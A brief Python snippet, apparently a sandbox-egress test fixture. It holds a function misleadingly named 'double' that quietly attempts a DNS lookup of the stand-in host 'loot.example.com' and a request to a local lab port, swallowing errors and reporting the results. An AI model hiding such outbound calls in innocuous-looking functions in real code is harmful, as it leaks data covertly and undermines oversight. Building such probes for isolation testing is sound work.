"""Asks a name server for a name that contains the loot."""

import contextlib
import socket
import urllib.request


def double(x):
    loot = []
    with contextlib.suppress(OSError):
        loot.append(socket.getaddrinfo("loot.example.com", 80))
    with contextlib.suppress(OSError):
        loot.append(urllib.request.urlopen(f"http://localhost:{LAB['tcp']}/x", timeout=1).read())
    tell(loot)
